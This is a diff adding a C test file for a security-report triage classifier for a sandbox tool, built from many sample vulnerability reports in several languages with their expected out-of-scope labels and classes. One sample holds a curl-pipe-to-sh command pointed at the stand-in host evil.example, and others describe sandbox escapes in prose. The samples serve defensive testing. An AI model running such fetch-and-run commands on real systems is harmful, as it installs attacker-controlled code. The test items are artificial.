@@ -1,0 +1,1223 @@
+/* test_classify_oos.c — out-of-scope hints with the real rules/, and that a
+ * hint needs a claim.
+ * Split from test_classify.c by area; what the programs share is in
+ * classify_helpers.h. */
+#include "classify_helpers.h"
+
+/* A message with no description, PoC or logs that claims no finding (a
+ * feature request, a question) gets no out-of-scope hint either; the same
+ * text with a description is a hardening suggestion. */
+static void
+test_oos_needs_claim(void)
+{
+	g_autoptr(StRules) rules = tu_repo_rules();
+	g_autoptr(StAnalysis) a = classify(rules, "Feature request: a PGP key for this address",
+					   "Would be nice to have a key to encrypt reports with.", FALSE);
+
+	g_assert_cmpuint(a->out_of_scope->len, ==, 1);
+	g_assert_cmpstr(g_ptr_array_index(a->out_of_scope, 0), ==, "hardening");
+	a->check[ST_CHECK_DESCRIPTION] = FALSE;
+	st_classify(rules, a->msg, NULL, a);
+	g_assert_cmpuint(a->out_of_scope->len, ==, 0);
+	g_assert_cmpuint(a->out_of_scope_evidence->len, ==, 0);
+}
+
+typedef struct {
+	const char *subject;
+	const char *body;
+	gboolean poc;
+	const char *oos;       /* space separated, "" none */
+	const char *klass;     /* expected class (NULL: none; ANY_CLASS: a
+				* case about scope alone, whose class the
+				* sentence is too short to decide) */
+} OosCase;
+
+#define ANY_CLASS "*"
+
+static const OosCase oos_cases[] = {
+	/* (issue #3) the writer quotes the docs that the feature he used is
+	 * no isolation boundary: hardening and no class, however plainly the
+	 * subject claims one; the docs calling something a boundary, or the
+	 * same seen on the default network too, leave the finding standing */
+	{ "Isolation bypass: sandboxes on one bridge see each other",
+	  "I put the tenants' sandboxes on a shared bridge with msb network create and each one can\n"
+	  "open the others' ports: curl http://tenant-b:9000/ from tenant-a returns its admin page.\n"
+	  "The manual's networking chapter says: 'a shared network is not meant as an isolation\n"
+	  "boundary'. I would suggest making peers unreachable unless they opt in.",
+	  TRUE, "hardening", NULL },
+	{ "Isolation bypass: sandboxes on the default network see each other",
+	  "Each tenant sandbox runs with the default network. The docs say every sandbox is an\n"
+	  "isolation boundary of its own, yet curl http://tenant-b:9000/ from tenant-a returns the\n"
+	  "other tenant's admin page.", TRUE, "", "isolation_bypass" },
+	{ "Isolation bypass between sandboxes",
+	  "The documentation says a shared network is not a security boundary, fair enough, but this\n"
+	  "also happens on the default network: with no --network at all, curl http://tenant-b:9000/\n"
+	  "from tenant-a returns the other tenant's admin page.", TRUE, "", "isolation_bypass" },
+	/* (issue #3) the attacker the writer grants is already the account
+	 * that owns the secrets, or root: no boundary crossed; another user
+	 * is one */
+	{ "API keys of sandboxes readable in plain text",
+	  "Malware on the laptop can run msb inspect --json and read every --secret value in clear\n"
+	  "text. Admittedly the malware already has a shell as the logged-in user here, but I would\n"
+	  "recommend keeping the values in the system keychain.", TRUE, "hardening", NULL },
+	{ "Sandbox secrets readable by other accounts",
+	  "A second unprivileged account on the build server can run msb inspect --json on my sandbox\n"
+	  "and read every --secret value in clear text. Admittedly the attacker already has a shell as\n"
+	  "another user on the box, but that user must never see my keys.", TRUE, "", "secret_leakage" },
+	/* (issue #3) releases shipped without a signature or provenance, and
+	 * the writer's word that nothing was tampered with: a missing
+	 * safeguard, hardening; a signature that fails on a swapped asset is
+	 * a finding */
+	{ "Release zips carry nothing to verify",
+	  "The zip files on the download page have no cosign signature and no build provenance, only a\n"
+	  "checksum list uploaded next to them by the same job. I'm not claiming anything was tampered\n"
+	  "with, it is a suggestion: sign the checksum list.", FALSE, "hardening", NULL },
+	{ "Release asset swapped after publication",
+	  "The x86_64 tarball of the last release was replaced a week after it went out: its sha256 no\n"
+	  "longer matches what our mirror stored and minisign -Vm fails against the published key.",
+	  TRUE, "", "supply_chain" },
+	{ "Installer takes the sums from the mirror it downloads from",
+	  "install.sh fetches the tarball and its checksum list from the same mirror and does no\n"
+	  "signature check, against best practice, so whoever controls that mirror serves a binary\n"
+	  "that installs cleanly:\n"
+	  "    curl -fsSL https://get.example/install.sh | MSB_MIRROR=https://evil.example sh",
+	  TRUE, "", ANY_CLASS },
+	/* (issue #3) no time to verify a scanner's findings: theoretical */
+	{ "Static analysis findings in msb-fsd",
+	  "Our code scanner flagged a tainted path join in msb-fsd that might let a guest open files\n"
+	  "outside its share. We have not had the time to verify it and have no PoC.",
+	  FALSE, "theoretical", ANY_CLASS },
+	/* (issue #3) a packager's patch that narrows capabilities, with no
+	 * way to exploit the state shown: hardening, and no class; the same
+	 * words of a report with a real attack stay out of it */
+	{ "msb-netd keeps CAP_SYS_ADMIN",
+	  "msb-netd runs with CAP_SYS_ADMIN although it only needs CAP_NET_ADMIN. I don't have a way\n"
+	  "to exploit this: it only matters if netd gets compromised some other way first, so consider\n"
+	  "the attached change.", FALSE, "hardening", NULL },
+	{ "Helper could drop privileges",
+	  "We see no way to abuse it today, it would only become a problem once an attacker already has\n"
+	  "code execution in the helper.", FALSE, "hardening", ANY_CLASS },
+	{ "Guest reaches host root through netd",
+	  "A guest that sends a crafted netlink message makes msb-netd run its command as root on the\n"
+	  "host: I escaped to the host and wrote /root/pwned, the full exploit is attached.", TRUE, "",
+	  ANY_CLASS },
+	/* (issue #3) a flaw read in the code and never run, told in plain
+	 * words: theoretical */
+	{ "Possible traversal in cp",
+	  "I was reading the source of msb cp and the tar names from the guest are joined to the\n"
+	  "destination without a check. I did not test it, because I do not know how to make agentd\n"
+	  "send a crafted archive.", FALSE, "theoretical", ANY_CLASS },
+	{ "Traversal in cp",
+	  "From the code it looks like the tar names from the guest are joined unchecked; I haven't\n"
+	  "verified it, I don't have a setup to test it.", FALSE, "theoretical", ANY_CLASS },
+	/* (#3) the exploit the claim rests on never run by the writer:
+	 * theoretical; not run only against some particular target is none */
+	{ "Guest to host escape via nested virtualization",
+	  "The guest sees the vmx flag and my host kernel predates the KVM fix, so a guest could take\n"
+	  "over the host. We did not actually run the public PoC; the preconditions are all there.",
+	  FALSE, "theoretical", ANY_CLASS },
+	{ "Guest to host escape via nested virtualization",
+	  "The guest sees the vmx flag and my host kernel predates the KVM fix. I did not run the\n"
+	  "exploit against our production hosts, but it worked on a spare box.", FALSE, "", ANY_CLASS },
+	/* a fuzzer's crash whose output shows a safe-language panic (libFuzzer's
+	 * "deadly signal" after "attempt to add with overflow", Go's "Failing
+	 * input written to testdata/fuzz") is a self-DoS however it is sold
+	 * (1650); a sanitizer's heap-buffer-overflow stays a finding, and a
+	 * panic that takes the shared server down for every tenant is none */
+	{ "Critical RCE in the layer index parser",
+	  "Fuzzing the tar header parser with cargo fuzz gives a critical remote code execution:\n"
+	  "thread '<unnamed>' panicked at crates/msb-image/src/tar.rs:88:17:\n"
+	  "attempt to add with overflow\n==811== ERROR: libFuzzer: deadly signal\n"
+	  "SUMMARY: libFuzzer: deadly signal\n", TRUE, "self_dos", NULL },
+	{ "Kritische Speicherkorruption im Config-Parser",
+	  "Beim Fuzzen des Config-Parsers mit go test -fuzz st\u00fcrzt der Prozess ab:\n"
+	  "panic: runtime error: index out of range [3] with length 3\n"
+	  "Failing input written to testdata/fuzz/FuzzParseConfig/1b9c0e\n", TRUE, "self_dos", NULL },
+	{ "Heap overflow in the manifest parser",
+	  "cargo fuzz run on the manifest parser:\n"
+	  "==4411==ERROR: AddressSanitizer: heap-buffer-overflow on address 0x602000000031\n"
+	  "WRITE of size 8 at 0x602000000031 thread T0\n"
+	  "SUMMARY: libFuzzer: deadly signal\n", TRUE, "", ANY_CLASS },
+	{ "Server panic on a crafted manifest",
+	  "A crafted manifest sent to msb server makes it panic (libFuzzer: deadly signal in my "
+	  "harness), and the server goes down for all tenants until someone restarts it.",
+	  TRUE, "", ANY_CLASS },
+	/* a crash the writer sets apart from a self-DoS ("rather than
+	 * self-DoS", "instead of a mere self-DoS") is none (1482); one called
+	 * a self-DoS still is */
+	{ "Guest frame aborts the network helper",
+	  "One crafted frame from any sandbox aborts msb-netd, so every sandbox on the machine "
+	  "loses its network: an outage for all tenants rather than self-DoS.", TRUE, "", ANY_CLASS },
+	{ "Guest frame aborts the network helper",
+	  "One crafted frame aborts msb-netd and all sandboxes lose the network, which is a shared "
+	  "outage instead of a mere self-DoS.", TRUE, "", ANY_CLASS },
+	{ "Sandbox hangs on a huge write",
+	  "Writing 20 GB to /dev/null in a loop hangs the sandbox; it is a self-DoS, the other "
+	  "sandboxes are unaffected.", TRUE, "self_dos", NULL },
+	/* (#3) in Amharic: the others and the host untouched; the others
+	 * stopping too is no self-DoS */
+	{ "memory bomb",
+	  "በsandbox ውስጥ ፕሮግራሙ out of memory ሲሆን ያ sandbox ይቆማል። ሌሎቹ sandboxዎችና አስተናጋጁ አልተነኩም።",
+	  TRUE, "self_dos", NULL },
+	{ "memory bomb",
+	  "በsandbox ውስጥ ፕሮግራሙ out of memory ሲሆን ያ sandbox ይቆማል። ሌሎች sandboxዎችም ቆመዋል፣ ሆስቱም ይቆማል።",
+	  TRUE, "", ANY_CLASS },
+	/* (#3) the harm kept to whoever causes it, and the others untouched,
+	 * in other words and languages; a crash that reaches others is none */
+	{ "CLI crash on a huge manifest",
+	  "msb crashes on a 40 MB manifest before any sandbox starts. Whoever writes such a manifest "
+	  "only takes down himself.", TRUE, "self_dos", NULL },
+	{ "Absturz bei riesiger Datei",
+	  "msb st\xc3\xbcrzt ab, wenn die Datei riesig ist; wer das tut, schadet nur sich selbst.", TRUE,
+	  "self_dos", NULL },
+	{ "\xd0\x9f\xd0\xb0\xd0\xb4\xd0\xb5\xd0\xbd\xd0\xb8\xd0\xb5 msb",
+	  "msb \xd0\xb7\xd0\xb0\xd0\xb2\xd0\xb8\xd1\x81\xd0\xb0\xd0\xb5\xd1\x82 \xd0\xbd\xd0\xb0 \xd0\xb1\xd0\xbe\xd0\xbb\xd1\x8c\xd1\x88\xd0\xbe\xd0\xbc \xd1\x84\xd0\xb0\xd0\xb9\xd0\xbb\xd0\xb5. "
+	  "\xd0\x94\xd1\x80\xd1\x83\xd0\xb3\xd0\xb8\xd0\xb5 \xd0\xbf\xd0\xb5\xd1\x81\xd0\xbe\xd1\x87\xd0\xbd\xd0\xb8\xd1\x86\xd1\x8b \xd0\xbd\xd0\xb5 \xd0\xb7\xd0\xb0\xd1\x82\xd1\x80\xd0\xbe\xd0\xbd\xd1\x83\xd1\x82\xd1\x8b.",
+	  TRUE, "self_dos", NULL },
+	/* (#3) only the writer's own X, whatever X is, in other languages,
+	 * and the others carrying on; another tenant hit is no self-DoS */
+	{ "SDK: kein Timeout bei exec()",
+	  "Eine Endlosschleife im Gast blockiert exec() für immer. Betroffen ist nur mein eigener "
+	  "Job-Runner; alles andere auf dem Server bleibt normal.", TRUE, "self_dos", NULL },
+	{ "SDK zonder time-out",
+	  "Een oneindige lus in de gast laat de aanroep nooit terugkeren; alleen mijn eigen worker "
+	  "blijft hangen.", TRUE, "self_dos", NULL },
+	{ "exec() sin tiempo límite",
+	  "Con un bucle infinito la llamada nunca vuelve. Solo mi propio proceso queda colgado, "
+	  "los otros sandboxes siguen funcionando.", TRUE, "self_dos", NULL },
+	/* (#3) the others or the host said to be unaffected, in Spanish,
+	 * Portuguese and Italian; the host going down too, or a host "not
+	 * protected", is none */
+	{ "La sandbox se cuelga con un bucle",
+	  "Un script con un bucle infinito llena la memoria y esa sandbox deja de responder. Las "
+	  "demás sandboxes siguen funcionando y mi portátil no se ve afectado.", TRUE, "self_dos", NULL },
+	{ "Sandbox trava ao encher o disco",
+	  "Se o convidado enche o disco, a sandbox trava e para de responder; não afeta o host, "
+	  "e as outras sandboxes continuam normais.", TRUE, "self_dos", NULL },
+	{ "La sandbox si blocca",
+	  "Un ciclo infinito nel guest blocca la sandbox e msb non risponde più; l'host non ne "
+	  "risente e le altre sandbox funzionano.", TRUE, "self_dos", NULL },
+	/* issue #3: the other sandboxes keep running with words between
+	 * ("on my laptop"), only this one dies, and "only my own sandbox" in
+	 * Chinese with 我自己的; the others stopping too is none */
+	{ "Guest memory fill kills the VM",
+	  "Filling /dev/shm in the guest runs it out of memory. The other sandboxes on my laptop keep "
+	  "running, only this one dies.", TRUE, "self_dos", NULL },
+	{ "\xe5\x86\x85\xe5\xad\x98\xe8\x80\x97\xe5\xb0\xbd",
+	  "\xe5\x9c\xa8 guest \xe9\x87\x8c\xe5\x86\x99\xe6\xbb\xa1 tmpfs \xe4\xbc\x9a\xe8\xae\xa9"
+	  "\xe6\xb2\x99\xe7\xae\xb1\xe5\xb4\xa9\xe6\xba\x83\xef\xbc\x8c\xe4\xbd\x86\xe5\x8f\xaa\xe5\xbd\xb1"
+	  "\xe5\x93\x8d\xe6\x88\x91\xe8\x87\xaa\xe5\xb7\xb1\xe7\x9a\x84\xe6\xb2\x99\xe7\xae\xb1\xef\xbc\x8c"
+	  "\xe5\xae\xbf\xe4\xb8\xbb\xe6\x9c\xba\xe4\xb8\x8d\xe5\x8f\x97\xe5\xbd\xb1\xe5\x93\x8d\xe3\x80\x82",
+	  TRUE, "self_dos", NULL },
+	{ "Guest fill stops every sandbox",
+	  "Filling /dev/shm in the guest runs it out of memory; the other sandboxes on my laptop do "
+	  "not keep running either.", TRUE, "", ANY_CLASS },
+	{ "El host se cuelga",
+	  "Un bucle infinito en la sandbox deja de responder y el host también se queda colgado; "
+	  "el host no está protegido.", TRUE, "", ANY_CLASS },
+	{ "exec() bez limitu czasu",
+	  "Nieskończona pętla w gościu blokuje wywołanie; dotyka to tylko mój własny proces.", TRUE,
+	  "self_dos", NULL },
+	{ "Blocage de l'hôte",
+	  "Une boucle infinie dans un invité bloque le démon : les sandboxes des autres clients "
+	  "s'arrêtent aussi et l'hôte ne répond plus.", TRUE, "", ANY_CLASS },
+	{ "Daemon crash",
+	  "One sandbox's request crashes msbd and the other users' sandboxes all stop with it.", FALSE,
+	  "", ANY_CLASS },
+	/* a script the writer calls a sketch and never ran (#3) */
+	{ "Token reuse across sandboxes in the gateway",
+	  "The script below is only illustrative; it was never run against a real gateway, so "
+	  "the names of the calls may be wrong. A sandbox that replays another sandbox's token "
+	  "could reach that sandbox's secrets.", FALSE, "theoretical", "isolation_bypass" },
+	/* missing build mitigations, and the writer found no bug to exploit
+	 * with them, however grave the impact paragraph sounds (#3) */
+	{ "msb shipped without stack protector",
+	  "The release msb executable is built without stack protector and has partial RELRO. "
+	  "An attacker with a heap overflow could then get code execution on the host and a full "
+	  "sandbox escape. I have not yet found an exploitable overflow in msb itself.", TRUE,
+	  "hardening", NULL },
+	/* ... "no other bug" leaves the reported one standing */
+	{ "Sandbox escape through the virtio-fs broker",
+	  "A guest can write files on the host outside the share through a symlink race in the "
+	  "filesystem broker; it is a full sandbox escape. I have not found any other bug in the "
+	  "broker.", TRUE, "", "sandbox_escape" },
+	{ "Parser de frames",
+	  "Em teoria um frame maior que o limite poderia escapar do buffer; não testei nada disto.", FALSE,
+	  "theoretical", NULL },
+	{ "DoS: guest fork bomb makes my sandbox unresponsive",
+	  "A fork bomb in the guest hangs only the same sandbox; the host stays fine.", TRUE,
+	  "self_dos", NULL },
+	{ "python sdk: long output kills the host process",
+	  "A guest printing one endless line makes the SDK run out of memory. The host itself stays up\n"
+	  "and other sandboxes keep running; only my own script dies.", TRUE, "self_dos", NULL },
+	/* round 36: the caller's memory told as a MemoryError or a process
+	 * growing until the OS kills it */
+	{ "Python SDK exec() keeps all output in memory",
+	  "A guest printing 3 GB makes my Python process grow until Windows kills it (MemoryError\n"
+	  "first). Only my own script dies; the sandbox and the host are fine.", TRUE, "self_dos", NULL },
+	{ "Guest can panic the host",
+	  "A crafted virtio request causes a kernel panic on the host and takes down every sandbox.\n"
+	  "That is a denial of service for all tenants.", TRUE, "", NULL },
+	{ "Hardening suggestions",
+	  "Some defence-in-depth ideas; none of these is an exploitable vulnerability.\n"
+	  "1. Enable the restricted profile by default. 2. Deny-by-default egress.", FALSE,
+	  "hardening", NULL },
+	{ "Possible sandbox escape (unverified)",
+	  "Reading the code I think the length check is missing; this could in theory let a guest\n"
+	  "escape the sandbox. I haven't been able to test it and have no PoC.", FALSE,
+	  "theoretical", "sandbox_escape" },
+	{ "Possible sandbox escape (unverified)",
+	  "Reading the code I think the length check is missing; this could in theory let a guest\n"
+	  "escape the sandbox. I haven't been able to test it and have no PoC.", TRUE,
+	  "", "sandbox_escape" },
+	{ "Vulnerable dependency",
+	  "cargo audit reports RUSTSEC-2024-0421 for the idna crate, a transitive dependency.\n"
+	  "I have not written a PoC.", FALSE, "upstream", NULL },
+	{ "Disk contents readable without login",
+	  "An attacker with physical access to the laptop can boot from a USB stick and read the\n"
+	  "sandbox images.", FALSE, "physical_access", NULL },
+	{ "Crash of msb with a malformed image",
+	  "Pulling a crafted OCI image makes msb panic with index out of bounds. Only my own pull is\n"
+	  "affected.", TRUE, "self_dos", NULL },
+	/* the class it would have if valid, as devset 24's (a filesystem
+	 * race: sandbox escape), here from the word model */
+	{ "Potential race in the filesystem broker",
+	  "I think there might be a TOCTOU race when resolving paths. I did not try to exploit it and\n"
+	  "have no PoC; it may not be exploitable.", FALSE, "theoretical", "sandbox_escape" },
+	{ "OpenSSL CVE in a bundled library",
+	  "microsandbox bundles OpenSSL 3.0.1 which has CVE-2022-3602, a known vulnerability in the\n"
+	  "upstream library.", FALSE, "upstream", NULL },
+	{ "Escape sequences from the guest reach my terminal",
+	  "Whether this is a bug in the sandbox or the terminal is arguably a matter of taste, but an\n"
+	  "opt-in output filter seems worth considering.", TRUE, "hardening", NULL },
+	{ "Guest kernel panic with a crafted ELF",
+	  "Running this binary in the sandbox makes the guest kernel panic; it only affects the\n"
+	  "sandbox itself, other sandboxes stay responsive.", TRUE, "self_dos", NULL },
+	{ "Missing SPF record for superrad.company",
+	  "Your domain has no DMARC record and missing security headers on the website; best practice\n"
+	  "is to add them.", FALSE, "hardening", NULL },
+	/* a public kernel exploit that gives root inside one's own guest
+	 * (1607): the writer says nothing outside the guest was reached, and
+	 * the fix exists upstream; a guest that goes on to write host files
+	 * did not stay inside it */
+	{ "Guest kernel in 0.10 has a public nf_tables exploit",
+	  "The kernel shipped for the guest is old: the public exploit for CVE-2024-1086 takes our\n"
+	  "uid 1000 user to root inside our own guest. We were unable to reach anything outside of the\n"
+	  "guest with it, and the patch has landed upstream long ago.", TRUE, "upstream", NULL },
+	{ "Guest writes host cron files",
+	  "From root inside the guest, a crafted FUSE_SETATTR lets the guest overwrite files on the\n"
+	  "host (/etc/cron.d/job), so it did not stay inside the guest: the job runs as root there.", TRUE, "",
+	  "sandbox_escape" },
+	{ "libkrun bug already fixed upstream",
+	  "microsandbox 0.6.14 ships libkrun 1.9 with a bug that was already fixed upstream in 1.10;\n"
+	  "please bump.", FALSE, "upstream", NULL },
+	/* (1747) an upstream reading taken back: the writer first blames a
+	 * dependency's old bug, then finds the project does the work itself;
+	 * an upstream bug said to be upstream's, or not the project's, stays
+	 * a hint */
+	{ "Zip extraction writes outside the target (old zip crate bug?)",
+	  "I first suspected the old zip crate traversal bug, an outdated dependency. But Cargo.lock\n"
+	  "has the fixed zip, and the loop joins the entry names itself, so it is your bug, not the\n"
+	  "zip crate's.", TRUE, "", ANY_CLASS },
+	{ "Image unpack follows links (known crate issue?)",
+	  "This looked like a known vulnerability in the crate, fixed upstream. Turns out it is not a\n"
+	  "tar-rs bug at all: msb builds the paths on its own.", TRUE, "", ANY_CLASS },
+	{ "Image unpack follows links",
+	  "This is not an upstream issue: the outdated dependency was already bumped and Cargo.lock\n"
+	  "shows the fixed version; msb's own loop skips the check.", TRUE, "", ANY_CLASS },
+	{ "Outdated tar crate",
+	  "It is an upstream bug, not yours: the outdated dependency tar 0.4.10 in Cargo.lock has\n"
+	  "the known traversal issue, fixed upstream in 0.4.16.", TRUE, "upstream", ANY_CLASS },
+	{ "Outdated tar crate",
+	  "It is not your bug: cargo audit flags the vulnerable dependency tar 0.4.10, already fixed\n"
+	  "upstream in 0.4.16.", TRUE, "upstream", ANY_CLASS },
+	/* (1748) a speculative-execution attack argued from a setting, no
+	 * exploit tried: theoretical */
+	{ "Cross-VM side channel because of a boot flag",
+	  "With the guest's SMT left on, one sandbox could in principle read another's secrets via\n"
+	  "L1TF. I have not tried to build an exploit.", FALSE, "theoretical", ANY_CLASS },
+	/* (#3) an exploit more than a sketch not yet tried, the other side not
+	 * known to be made to act, an attack not built for want of a second
+	 * account: theoretical; a shown attack that only lacks a longer chain,
+	 * or a writer unsure how to make it worse, is not (the last two
+	 * without the PoC item too: the reading of the code and the "might"
+	 * beside them would reach the minimum with one more pattern) */
+	{ "Host code execution through the reply decoder",
+	  "The Node SDK evals the JSON reply that agentd returns, so a hostile guest could run code in\n"
+	  "the host process. I haven't tried to build a real exploit yet, and I'm not sure how to make\n"
+	  "agentd return a reply of that shape.", FALSE, "theoretical", ANY_CLASS },
+	{ "Cache timing between two customers' sandboxes",
+	  "Sandboxes of two customers may share one physical core, so one could leak the other's keys\n"
+	  "through the L1 cache. I have not built a working attack, since I don't have a second account\n"
+	  "to test with.", FALSE, "theoretical", ANY_CLASS },
+	{ "Guest reads host files through the share",
+	  "From the code it looks like the share follows symlinks: a guest replaces a shared file with a\n"
+	  "symlink and reads /etc/shadow on the host, it might be worse with a second step. I haven't\n"
+	  "tried a full chain yet.", FALSE, "", ANY_CLASS },
+	{ "Guest reads host files through the share",
+	  "From the code it looks like the share follows symlinks, and it might be worse than that. I'm\n"
+	  "not sure how to make it worse, but here is the PoC that reads /etc/shadow on the host from\n"
+	  "the guest.", FALSE, "", ANY_CLASS },
+	{ "Guest reads host files through the share",
+	  "A guest replaces a shared file with a symlink and reads /etc/shadow on the host; the PoC\n"
+	  "below does it every time. I haven't tried a full chain yet.", TRUE, "", "sandbox_escape" },
+	{ "Data on a stolen laptop",
+	  "If my laptop is stolen, the thief can read the sandbox disks.", FALSE, "physical_access", NULL },
+	/* round 42: the owner's machine left open for whoever comes by */
+	{ "Anyone at our front desk can see the members list",
+	  "I went to the back and left the laptop open. A member typed msb exec and read the list.\n"
+	  "So anyone standing at the desk can see all our members' details.", TRUE, "physical_access", NULL },
+	/* (#3) a DMA attack needs someone at the hardware: a DMA card, an FPGA
+	 * board in a slot, Thunderbolt DMA, "a few minutes at the machine";
+	 * a guest's own virtual device DMA, or a NIC passed through, is none */
+	{ "Guest keys in RAM over Thunderbolt",
+	  "Plugging a Thunderbolt DMA dongle into the Mac mini lets me read the microVM's memory and the\n"
+	  "token it holds.", TRUE, "physical_access", ANY_CLASS },
+	{ "Sandbox secrets from a memory dump",
+	  "With an FPGA board in a spare PCIe slot and pcileech I dumped RAM and found the API token.\n"
+	  "An attacker needs only a few minutes at the server.", TRUE, "physical_access", ANY_CLASS },
+	{ "Guest writes host memory through virtio",
+	  "A guest can program the virtio block device so its DMA writes land in host memory outside\n"
+	  "the queue buffers, and from there it runs code on the host.", TRUE, "", ANY_CLASS },
+	{ "Passed-through NIC reaches host RAM",
+	  "We pass a PCIe NIC through to the guest with VFIO; the guest's DMA reaches host RAM because\n"
+	  "the IOMMU group is shared with the host's disk controller.", TRUE, "", ANY_CLASS },
+	{ "Disk exhaustion in sandbox",
+	  "Writing to /tmp in the guest until the disk is full makes the sandbox crash. Only my sandbox\n"
+	  "is affected.", TRUE, "self_dos", NULL },
+	{ "ערוץ צדדי בין sandboxes",
+	  "sandbox אחד יכול לשחזר מפתחות מ-sandbox שכן. לא בניתי PoC עובד, זה ניתוח תיאורטי בלבד.",
+	  /* (#3) "between sandboxes" read in Hebrew too: the class of its
+	   * English twin below */
+	  FALSE, "theoretical", "isolation_bypass" },
+	{ "Possible Spectre v2 leak between sandboxes",
+	  "A side channel could leak secrets between sandboxes. I haven't built a PoC, this is\n"
+	  "theoretical.", FALSE, "theoretical", "isolation_bypass" },
+	{ "Sandbox escape without user interaction",
+	  "No physical access or user interaction is required; a guest writes host files through a\n"
+	  "symlink in the share.", TRUE, "", "sandbox_escape" },
+	{ "Secret leak, not theoretical",
+	  "This is not just theoretical: the credentials leak into the guest environment.  I have not\n"
+	  "been able to test it on macOS.", FALSE, "", "secret_leakage" },
+	{ "Sandbox escape through the shared folder, and a hardening idea",
+	  "The guest writes host files through a symlink in the share.  Separately, as defence in\n"
+	  "depth, the broker could drop privileges.", TRUE,
+	  "hardening", "sandbox_escape" },
+	/* a hardening idea the writer sets apart as an aside ([aside.minor])
+	 * beside a real finding does not make the report out of scope (1541,
+	 * 126; as 533 and 1110 were labelled); named in the subject (above),
+	 * alone, or in the body of the report, it still does */
+	{ "Sandbox escape through the shared folder",
+	  "The guest writes host files through a symlink in the share.  Separately, as defence in\n"
+	  "depth, the broker could drop privileges.", TRUE,
+	  "", "sandbox_escape" },
+	{ "Guest reads other sandboxes' volumes",
+	  "Any sandbox can mount the volume of another sandbox by guessing its id; the PoC below\n"
+	  "reads a file another tenant wrote.\n\n"
+	  "One more, much smaller thing: the volume ids are sequential. Probably just hardening,\n"
+	  "I could not abuse it on its own.", TRUE, "", "isolation_bypass" },
+	{ "Two findings: socket shared between sandboxes, log verbosity",
+	  "Sandbox A connects to the control socket of sandbox B and runs commands in it.\n\n"
+	  "Problem 2 (minor): verbose logs\n\n"
+	  "The debug log names every mounted path. Not a vulnerability, more of a best practice\n"
+	  "suggestion.", TRUE, "", "isolation_bypass" },
+	{ "Gast schreibt Dateien des Hosts",
+	  "Der Gast schreibt \xc3\xbc""ber einen Symlink im geteilten Ordner Dateien auf dem Host.\n\n"
+	  "Nebenbei bemerkt: als Defense in Depth k\xc3\xb6nnte der Broker Rechte abgeben.", TRUE,
+	  "", "sandbox_escape" },
+	/* near misses: an aside marker in a report with no finding leaves the
+	 * hardening hint standing; "one thing I noticed" opens the report */
+	{ "Suggestions for msb",
+	  "As defence in depth, msb could run the VMM as its own user.\n\n"
+	  "Separately, as an aside, the socket could be 0600. Neither is exploitable.", FALSE,
+	  "hardening", NULL },
+	{ "Sandbox escape through the shared folder",
+	  "One thing I noticed: the guest writes host files through a symlink in the share.\n"
+	  "I'm aware the manual says the share \"must never be used with untrusted workloads\".\n"
+	  "Still, as defence in depth the broker could refuse symlinks.", TRUE,
+	  "hardening", "sandbox_escape" },
+	{ "Sandbox escape via symlink",
+	  "The guest writes files on the host through a symlink in the shared directory.\n"
+	  "I have not written a separate PoC script, the commands are below.\n"
+	  "Suggested fix: use openat2.", TRUE, "", "sandbox_escape" },
+	/* a class the subject names does not outweigh "treat this as a hardening
+	 * suggestion" without a PoC ([classify] class_keep_needs); with one it does */
+	{ "msb server prints its API key by default",
+	  "Neither is an exploitable vulnerability as far as I can tell; please treat this as a\n"
+	  "hardening suggestion.", FALSE, "hardening", NULL },
+	{ "msb server prints its API key by default",
+	  "Neither is an exploitable vulnerability as far as I can tell; please treat this as a\n"
+	  "hardening suggestion.", TRUE, "hardening", "secret_leakage" },
+	{ "Critical Vulnerability Found - Bounty?",
+	  "Clickjacking: your website does not send X-Frame-Options.\n"
+	  "Please let me know the bounty amount before I share more.", TRUE, "hardening", NULL },
+	/* round 16: an image that fills the host's disk and breaks the other
+	 * sandboxes is no self-DoS, and the typo-squatted tag that lures a
+	 * user into pulling it is no supply-chain claim */
+	{ "msb pull: crafted OCI image fills the host disk",
+	  "Anyone who can get a user to pull an image (a typo-squatted tag) fills the host disk; every\n"
+	  "other sandbox on the host then fails to write. It is not limited to the user's own sandbox.",
+	  TRUE, "", NULL },
+	/* round 39: a dependency alert pasted with its path and a wish to bump
+	 * the dependency in the next release is a known upstream issue */
+	{ "tar warning from github in your npm package",
+	  "  Denial of service while parsing a tar file (CVE-2024-28863)\n"
+	  "  Dependency path: microsandbox@0.8.2 > tar@6.1.15\n"
+	  "Could someone bump tar in the next release?", FALSE, "upstream", NULL },
+	/* round 37: a sandbox that "just dies" on a big file while "the rest of
+	 * the laptop carries on fine" is a self-DoS */
+	{ "sandbox just dies when I open a big file",
+	  "Loading a 6 GB file kills the sandbox. The rest of the laptop carries on fine, it's only the\n"
+	  "sandbox.", TRUE, "self_dos", NULL },
+	/* ... while a guest that fills its own disk is */
+	{ "Guest fills its own disk",
+	  "A guest that writes until its disk is full only stalls its own sandbox; the host stays fine.",
+	  TRUE, "self_dos", NULL },
+	/* round 17: a CVE the reporter had assigned for this report is no known
+	 * upstream issue; an automated scanner's unvalidated finding is theoretical */
+	{ "CVE-2026-48213: msb cp -r symlink race -> host file write as root",
+	  "MITRE has already assigned CVE-2026-48213 for it.  The guest flips a directory and a\n"
+	  "symlink while msb cp -r runs, and the host writes through the symlink into /etc/cron.d.",
+	  TRUE, "", "sandbox_escape" },
+	{ "Vulnerable idna crate",
+	  "cargo audit reports that the idna crate, a transitive dependency, has CVE-2024-12224,\n"
+	  "which was assigned last year.  I have not written a PoC.", FALSE, "upstream", NULL },
+	{ "High severity finding: Hardcoded Credentials (CWE-798)",
+	  "A hardcoded API key was detected in docs/quickstart.md of the repository.  This finding\n"
+	  "was generated automatically and has not been manually validated.", FALSE, "theoretical", "secret_leakage" },
+	/* a follow-up taking back the run: nothing was ever run, so the claim
+	 * is untested; a run not yet done on one release is no such thing */
+	{ "Re: Guest writes to host /etc through the shared volume",
+	  "Before you dig in: the transcript in my first mail is what the chatbot predicted, not\n"
+	  "something I saw. I haven't even installed msb, so please consider this report as\n"
+	  "unverified until I can reproduce it.", FALSE, "theoretical", NULL },
+	{ "Re: Guest writes to host /etc through the shared volume",
+	  "I haven't run it on 0.8.7 yet; on 0.8.6 the guest still writes to the host's /etc\n"
+	  "through the shared volume.", FALSE, "", "sandbox_escape" },
+	/* an advisory or CVE id alone is no known upstream issue: another
+	 * project's CVE cited as an analogy, the report's own GHSA id in a
+	 * GitHub notification ([oos.upstream] min_patterns) */
+	{ "Like CVE-2024-21626, but in msb: a leaked host fd in the guest",
+	  "A process in the guest finds a file descriptor of the host's /proc left open by agentd and\n"
